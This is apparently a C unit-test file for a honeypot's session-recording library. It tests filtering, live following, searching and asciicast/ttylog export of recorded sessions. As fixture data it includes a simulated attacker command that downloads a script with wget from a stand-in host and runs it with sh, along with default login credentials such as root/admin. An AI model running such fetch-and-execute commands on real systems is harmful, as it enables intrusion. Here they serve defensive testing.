/* recordings: the list and its filters, following, searching, other formats */
#include "recording_kit.h"

#include <sys/wait.h>

#include "decoy/record/cast.h"
#include "decoy/record/ttylog.h"
#include "observe/registry_numbers.h"

/* ---- the list ---- */

struct listed {
	uint64_t numbers[64];
	unsigned flags[64];
	size_t count;
};

static bool take(void *into, const struct hin_recording_entry *entry)
{
	struct listed *listed = into;

	assert_true(listed->count < HIN_COUNT(listed->numbers));
	listed->flags[listed->count] = entry->flags;
	listed->numbers[listed->count++] = entry->number;
	return true;
}

/* The sessions that fit, as digits of their index in `numbers`. */
static void list(struct hin_recordings *recordings, const struct hin_recording_filter *filter,
		 const uint64_t *numbers, size_t count, char *out)
{
	struct listed listed = { .count = 0 };
	struct hin_error err = { 0 };

	if (hin_recordings_list(recordings, filter, take, &listed, &err) != HIN_OK)
		fail_msg("list: %s", err.text);
	for (size_t k = 0; k < listed.count; k++) {
		for (size_t j = 0; j < count; j++) {
			if (numbers[j] == listed.numbers[k])
				*out++ = (char)('0' + j);
		}
	}
	*out = '\0';
}

/* Seven sessions in three segments; the last one runs. */
static void seven(struct kit *kit, uint64_t numbers[7])
{
	struct hin_recording_about about;

	kit_begin(kit);
	for (unsigned k = 0; k < 7; k++) {
		int64_t time = NOON + k * 1000000;

		about = kit_about(k % 3, time);
		if (k == 2) {
			about.client = (struct hin_addr){ { 0x20, 1, 0xd, 0xb8, [15] = 1 } };
			about.host = "router";
			about.service = 2;
		}
		assert_int_equal(hin_recorder_begin(kit->recorder, &about, &numbers[k]), HIN_OK);
		kit_tell(kit, numbers[k], time + 1, HIN_EVENT_CREDENTIAL, k == 3 ? "pi" : "root",
			 k == 4 ? "toor" : "admin", 1,
			 k % 2 ? HIN_VERDICT_SUCCESS : HIN_VERDICT_REFUSED);
		if (k == 1)
			kit_tell(kit, numbers[k], time + 2, HIN_EVENT_COMMAND,
				 "cd /tmp&&wget -q http://a/b;sh b", NULL, 0, 0);
		if (k == 5)
			kit_tell(kit, numbers[k], time + 2, HIN_EVENT_HONEYTOKEN, "vpn", NULL, 0,
				 0);
		if (k != 6)
			kit_over(kit, numbers[k], time + 10);
		if (k == 2 || k == 4) {
			kit_close(kit, time + 20);
			kit_open(kit, time + 30);
		}
	}
	(void)hin_recorder_run(kit->recorder, NOON + 8000000);
}

static void lists(void **state)
{
	static const struct hin_prefix v6 = { { { 0x20, 1, 0xd, 0xb8 } }, 32 };
	const struct hin_prefix one = { hin_addr_of_v4(0xc6336401), 32 };
	const struct hin_prefix target = { hin_addr_of_v4(0x0a000000), 8 };
	const struct {
		struct hin_recording_filter filter;
		const char *want;
	} cases[] = {
		{ { .source = NULL }, "6543210" },
		{ { .most = 2 }, "65" },
		{ { .most = 4 }, "6543" },
		{ { .source = &one }, "41" },
		{ { .source = &v6 }, "2" },
		{ { .target = &target }, "6543210" },
		{ { .target = &one }, "" },
		{ { .host = "router" }, "2" },
		{ { .host = "rout" }, "" },
		{ { .persona = "debian12", .service = 1 }, "654310" },
		{ { .service = 2 }, "2" },
		{ { .begin_us = NOON + 3000000 }, "6543" },
		{ { .end_us = NOON + 3000000 }, "210" },
		{ { .begin_us = NOON + 1000000, .end_us = NOON + 5000000 }, "4321" },
		{ { .flags = HIN_RECORDING_LOGIN }, "531" },
		{ { .flags = HIN_RECORDING_HONEYTOKEN }, "5" },
		{ { .flags = HIN_RECORDING_LOGIN | HIN_RECORDING_HONEYTOKEN }, "5" },
		{ { .flags = HIN_RECORDING_RUNNING }, "6" },
		{ { .with_commands = true }, "1" },
		{ { .word = "wget" }, "1" },
		{ { .word = "/tmp" }, "1" },
		{ { .word = "http://a/b" }, "1" },
		{ { .word = "wge" }, "" },
		{ { .user = "pi" }, "3" },
		{ { .password = "toor" }, "4" },
		{ { .user = "root", .password = "admin" }, "65210" },
		{ { .user = "root", .password = "admin", .flags = HIN_RECORDING_LOGIN }, "51" },
		{ { .user = "nobody" }, "" },
	};
	struct hin_recordings *recordings;
	uint64_t numbers[7];
	char got[65];
	struct kit kit;

	(void)state;
	seven(&kit, numbers);
	recordings = kit_read(&kit);
	for (size_t k = 0; k < HIN_COUNT(cases); k++) {
		list(recordings, &cases[k].filter, numbers, 7, got);
		if (strcmp(got, cases[k].want) != 0)
			fail_msg("case %zu: \"%s\" is not \"%s\"", k, got, cases[k].want);
	}
	hin_recordings_close(recordings);
	kit_end(&kit);
}

/* Without the key the list and the check are there, what was said is not. */
static void without_key(void **state)
{
	const struct hin_recording_filter word = { .word = "wget" }, all = { .most = 0 };
	struct hin_recordings *recordings;
	struct hin_recording *recording = NULL;
	struct hin_recording_check check;
	char path[PATH_MAX], got[65];
	uint64_t numbers[7];
	struct kit kit;

	(void)state;
	seven(&kit, numbers);
	kit_close(&kit, NOON + 9000000);
	snprintf(path, sizeof(path), "%s/recording.key", kit.folder);
	assert_int_equal(unlink(path), 0);
	recordings = kit_read(&kit);
	list(recordings, &all, numbers, 7, got);
	assert_string_equal(got, "6543210");
	list(recordings, &word, numbers, 7, got);
	assert_string_equal(got, "");
	assert_int_equal(hin_recording_open(&recording, recordings, numbers[1], NULL), HIN_EDENIED);
	hin_recordings_close(recordings);
	kit_check(&kit, &check, NULL, NULL);
	assert_int_equal(check.whole, 7);
	kit_remove(kit.folder);
}

/* ---- following ---- */

static bool take_item(void *into, const struct hin_recording_entry *entry,
		      const struct hin_recording_item *item)
{
	struct hin_buffer *out = into;

	hin_buffer_printf(out, "%u", (unsigned)(entry->number & 0xff));
	if (item->kind == HIN_RECORDING_BYTES)
		hin_buffer_add(out, item->data, item->size);
	else if (item->kind == HIN_RECORDING_EVENT)
		hin_buffer_printf(out, "!%u", item->event.type);
	hin_buffer_putc(out, '@');
	hin_buffer_puts(out, entry->about.host);
	hin_buffer_putc(out, ' ');
	return true;
}

static void expect(struct hin_recordings *recordings, uint64_t number, enum hin_code code,
		   const char *want)
{
	struct hin_buffer text = { 0 };
	struct hin_error err = { 0 };

	assert_int_equal(hin_recordings_follow(recordings, number, take_item, &text, &err), code);
	assert_string_equal(hin_buffer_text(&text), want);
	hin_buffer_fini(&text);
}

static void follows_all(void **state)
{
	struct hin_recordings *recordings;
	uint64_t old, a, b;
	struct kit kit;

	(void)state;
	kit_begin(&kit);
	recordings = kit_read(&kit); /* before there is anything */
	old = kit_session(&kit, 1, NOON);
	kit_say(&kit, old, NOON, HIN_TO_CLIENT, "old");
	(void)hin_recorder_run(kit.recorder, NOON);
	expect(recordings, 0, HIN_OK, "");
	kit_say(&kit, old, NOON, HIN_TO_CLIENT, "of one that had begun");
	a = kit_session(&kit, 2, NOON);
	kit_say(&kit, a, NOON, HIN_TO_CLIENT, "hello");
	expect(recordings, 0, HIN_OK, "");
	(void)hin_recorder_run(kit.recorder, NOON + 500000);
	expect(recordings, 0, HIN_OK, "2hello@fileserver ");
	expect(recordings, 0, HIN_OK, "");
	b = kit_session(&kit, 3, NOON);
	kit_say(&kit, b, NOON, HIN_FROM_CLIENT, "x");
	kit_say(&kit, a, NOON, HIN_FROM_CLIENT, "y");
	kit_tell(&kit, a, NOON, HIN_EVENT_COMMAND, "ls", NULL, 0, 0);
	kit_over(&kit, b, NOON);
	/* a new day begins while a goes on */
	(void)hin_recorder_run(kit.recorder, NOON + INT64_C(86400000000));
	b = kit_session(&kit, 3, NOON + INT64_C(86400000000));
	kit_say(&kit, b, NOON + INT64_C(86400000000), HIN_FROM_CLIENT, "z");
	kit_say(&kit, a, NOON, HIN_FROM_CLIENT, "w");
	kit_over(&kit, a, NOON);
	kit_flush(&kit, NOON + INT64_C(86400000001));
	expect(recordings, 0, HIN_OK,
	       "1z@fileserver 3x@fileserver 2y@fileserver 2!9@fileserver 2w@fileserver ");
	hin_recordings_close(recordings);
	kit_end(&kit);
}

static void follows_one(void **state)
{
	struct hin_recordings *recordings;
	uint64_t a;
	struct kit kit;

	(void)state;
	kit_begin(&kit);
	a = kit_session(&kit, 2, NOON);
	kit_say(&kit, a, NOON, HIN_TO_CLIENT, "before");
	kit_flush(&kit, NOON);
	recordings = kit_read(&kit);
	assert_false(hin_recordings_wait(recordings, 0));
	expect(recordings, a, HIN_OK, "1before@fileserver ");
	expect(recordings, a, HIN_OK, "");
	kit_say(&kit, a, NOON, HIN_TO_CLIENT, "after");
	kit_flush(&kit, NOON);
	assert_true(hin_recordings_wait(recordings, 1000));
	expect(recordings, a, HIN_OK, "1after@fileserver ");
	kit_say(&kit, a, NOON, HIN_TO_CLIENT, "end");
	kit_over(&kit, a, NOON);
	kit_flush(&kit, NOON);
	expect(recordings, a, HIN_EOF, "1end@fileserver ");
	/* one whose recorder died */
	a = kit_session(&kit, 2, NOON);
	kit_flush(&kit, NOON);
	expect(recordings, a, HIN_OK, "");
	kit_close(&kit, NOON + 1);
	expect(recordings, a, HIN_EOF, "");
	assert_int_equal(hin_recordings_follow(recordings, a + 5, take_item, NULL, NULL),
			 HIN_ENOENT);
	hin_recordings_close(recordings);
	kit_remove(kit.folder);
}

static bool count_item(void *into, const struct hin_recording_entry *entry,
		       const struct hin_recording_item *item)
{
	(void)entry;
	(void)item;
	++*(unsigned *)into;
	return true;
}

static bool count_entry(void *into, const struct hin_recording_entry *entry)
{
	(void)entry;
	++*(unsigned *)into;
	return true;
}

/* Another process records as fast as it can: who reads beside it never sees anything wrong. */
static void beside_a_writer(void **state)
{
	enum { SESSIONS = 3000 };
	const struct hin_recording_filter all = { .most = 50 };
	struct hin_recordings *recordings;
	struct hin_recording_check check;
	unsigned items = 0, entries = 0;
	struct hin_error err;
	int status = 0;
	struct kit kit;
	pid_t child;

	(void)state;
	kit_begin(&kit);
	kit.settings.segment_bytes = 1 << 16;
	hin_recorder_settings(kit.recorder, &kit.settings);
	recordings = kit_read(&kit);
	assert_int_equal(hin_recordings_follow(recordings, 0, count_item, &items, &err), HIN_OK);
	child = fork();
	if (child == 0) {
		int64_t now_us = NOON;
		uint64_t number, before = 0;

		for (unsigned k = 0; k < SESSIONS; k++) {
			number = kit_session(&kit, k, now_us);
			kit_say(&kit, number, now_us, HIN_TO_CLIENT,
				"what everybody is told who comes");
			if (before != 0) {
				kit_say(&kit, before, now_us, HIN_FROM_CLIENT, "exit");
				kit_over(&kit, before, now_us);
			}
			before = number;
			now_us += 130000;
			(void)hin_recorder_run(kit.recorder, now_us);
		}
		kit_over(&kit, before, now_us);
		kit_flush(&kit, now_us);
		_exit(0);
	}
	while (waitpid(child, &status, WNOHANG) == 0) {
		if (hin_recordings_follow(recordings, 0, count_item, &items, &err) != HIN_OK ||
		    hin_recordings_list(recordings, &all, count_entry, &entries, &err) != HIN_OK)
			fail_msg("%s", err.text);
		assert_int_equal(hin_recordings_verify(recordings, 0, kit.key.public_key, false,
						       NULL, NULL, &check, &err),
				 HIN_OK);
		assert_int_equal(check.bad + check.damaged_segments, 0);
	}
	assert_int_equal(status, 0);
	assert_int_equal(hin_recordings_follow(recordings, 0, count_item, &items, &err), HIN_OK);
	assert_int_equal(items, 2 * SESSIONS - 1);
	kit_check(&kit, &check, NULL, NULL);
	assert_int_equal(check.sessions, SESSIONS);
	assert_int_equal(check.bad + check.damaged_segments, 0);
	hin_recordings_close(recordings);
	kit_end(&kit);
}

/* ---- searching ---- */

static bool take_hit(void *into, const struct hin_recording_entry *entry,
		     const struct hin_recording_hit *hit)
{
	struct hin_buffer *out = into;

	assert_true(hit->at < hit->size);
	hin_buffer_printf(out, "%u%c%u:%.5s ", (unsigned)(entry->number & 0xff),
			  hit->typed ? '<' : '>', hit->channel, (const char *)hit->text + hit->at);
	return true;
}

static void searches(void **state)
{
	static const struct {
		const char *needle;
		unsigned where;
		const char *want;
	} cases[] = {
		{ "wget", HIN_RECORDING_TYPED, "1<1:wget  1<1:wGeT1 " },
		{ "WGET", HIN_RECORDING_TYPED | HIN_RECORDING_SEEN,
		  "2>1:wget: 1<1:wget  1<1:wGeT1 " },
		{ "wget", HIN_RECORDING_SEEN, "2>1:wget: " },
		{ "aa", HIN_RECORDING_TYPED, "1<2:aaaaa 1<2:aaa 1<2:aaend " },
		{ "nowhere", HIN_RECORDING_TYPED | HIN_RECORDING_SEEN, "" },
		{ "not found", HIN_RECORDING_SEEN, "2>1:not f " },
	};
	struct hin_recordings *recordings;
	const struct hin_recording_filter all = { .most = 0 };
	struct hin_buffer text = { 0 };
	uint64_t a, b;
	struct kit kit;

	(void)state;
	kit_begin(&kit);
	a = kit_session(&kit, 1, NOON);
	kit_say(&kit, a, NOON, HIN_FROM_CLIENT, "cd /tmp; wg");
	kit_say(&kit, a, NOON + 1, HIN_TO_CLIENT, "cd /tmp; w g");
	kit_flush(&kit, NOON + 2);
	kit_say(&kit, a, NOON + 3, HIN_FROM_CLIENT, "e");
	kit_say(&kit, a, NOON + 3, HIN_FROM_CLIENT, "t http://x/ wGeT");
	kit_say(&kit, a, NOON + 3, HIN_FROM_CLIENT, "1");
	hin_recorder_bytes(kit.recorder, a, NOON + 4, 2, HIN_FROM_CLIENT, "aaaaa", 5);
	hin_recorder_bytes(kit.recorder, a, NOON + 4, 2, HIN_FROM_CLIENT, "aend", 4);
	b = kit_session(&kit, 1, NOON + 5);
	kit_say(&kit, b, NOON + 6, HIN_TO_CLIENT, "sh: wget: not found\r\n");
	kit_over(&kit, b, NOON + 7);
	kit_flush(&kit, NOON + 8);
	recordings = kit_read(&kit);
	for (size_t k = 0; k < HIN_COUNT(cases); k++) {
		hin_buffer_reset(&text);
		assert_int_equal(hin_recordings_search(recordings, &all, cases[k].where,
						       cases[k].needle, strlen(cases[k].needle),
						       take_hit, &text, NULL),
				 HIN_OK);
		/* a piece that came later is shown as far as it is there */
		if (k != 0 && k != 1 && k != 3)
			assert_string_equal(hin_buffer_text(&text), cases[k].want);
		else
			assert_int_equal(strncmp(hin_buffer_text(&text), cases[k].want, 5), 0);
	}
	assert_int_equal(hin_recordings_search(recordings, &all, 3, "", 0, take_hit, &text, NULL),
			 HIN_ELIMIT);
	hin_recordings_close(recordings);
	hin_buffer_fini(&text);
	kit_end(&kit);
}

/* ---- other formats ---- */

static void formats(void **state)
{
	struct hin_event terminal = { .time_us = NOON + 5,
				      .type = HIN_EVENT_TERMINAL,
				      .channel = 3,
				      .number = 100 << 16 | 30,
				      .a = "xterm",
				      .a_size = 5 };
	struct hin_recordings *recordings;
	struct hin_recording *recording = NULL;
	struct hin_buffer out = { 0 };
	struct hin_ttylog_record record;
	struct hin_reader in;
	uint64_t a;
	struct kit kit;

	(void)state;
	kit_begin(&kit);
	a = kit_session(&kit, 1, NOON);
	hin_recorder_bytes(kit.recorder, a, NOON + 1, 0, HIN_TO_CLIENT, "SSH-2.0-x\r\n", 11);
	hin_recorder_bytes(kit.recorder, a, NOON + 2, 1, HIN_TO_CLIENT, "an exec", 7);
	hin_recorder_event(kit.recorder, a,
			   &(struct hin_event){ .time_us = NOON + 4,
						.type = HIN_EVENT_CHANNEL,
						.channel = 3,
						.number = HIN_CHANNEL_SHELL });
	hin_recorder_event(kit.recorder, a, &terminal);
	hin_recorder_bytes(kit.recorder, a, NOON + 500000, 3, HIN_TO_CLIENT, "\xe7\x81", 2);
	hin_recorder_bytes(kit.recorder, a, NOON + 600000, 3, HIN_FROM_CLIENT, "ls\n", 3);
	hin_recorder_bytes(kit.recorder, a, NOON + 700000, 3, HIN_TO_CLIENT, "\xab\xff", 2);
	kit_over(&kit, a, NOON + 800000);
	kit_flush(&kit, NOON + 800001);
	recordings = kit_read(&kit);
	assert_int_equal(hin_recording_open(&recording, recordings, a, NULL), HIN_OK);
	assert_int_equal(hin_recording_cast(recording, 0, true, 0, &out, NULL), HIN_OK);
	assert_string_equal(
		hin_buffer_text(&out),
		"{\"version\": 2, \"width\": 100, \"height\": 30, \"timestamp\": 1763812800, "
		"\"title\": \"fileserver 1.1\", \"env\": {\"TERM\": \"xterm\"}}\n"
		"[0.000005, \"r\", \"100x30\"]\n"
		"[0.600000, \"i\", \"ls\\n\"]\n"
		"[0.700000, \"o\", \"火\\ufffd\"]\n");
	hin_recording_close(recording);
	hin_buffer_reset(&out);
	assert_int_equal(hin_recording_open(&recording, recordings, a, NULL), HIN_OK);
	assert_int_equal(hin_recording_ttylog(recording, 0, &out, NULL), HIN_OK);
	hin_recording_close(recording);
	in = hin_reader_of(out.data, out.used);
	assert_int_equal(hin_ttylog_read(&in, &record), HIN_OK);
	assert_int_equal(record.op, HIN_TTYLOG_OPEN);
	assert_int_equal(record.time_us, NOON);
	for (unsigned k = 0; k < 3; k++)
		assert_int_equal(hin_ttylog_read(&in, &record), HIN_OK);
	assert_int_equal(record.direction, HIN_TTYLOG_OUTPUT);
	assert_int_equal(record.size, 2);
	assert_int_equal(record.time_us, NOON + 700000);
	assert_int_equal(hin_ttylog_read(&in, &record), HIN_OK);
	assert_int_equal(record.op, HIN_TTYLOG_CLOSE);
	assert_int_equal(hin_ttylog_read(&in, &record), HIN_EOF);
	hin_recordings_close(recordings);
	hin_buffer_fini(&out);
	kit_end(&kit);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(lists),	   cmocka_unit_test(without_key),
		cmocka_unit_test(follows_all),	   cmocka_unit_test(follows_one),
		cmocka_unit_test(beside_a_writer), cmocka_unit_test(searches),
		cmocka_unit_test(formats),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
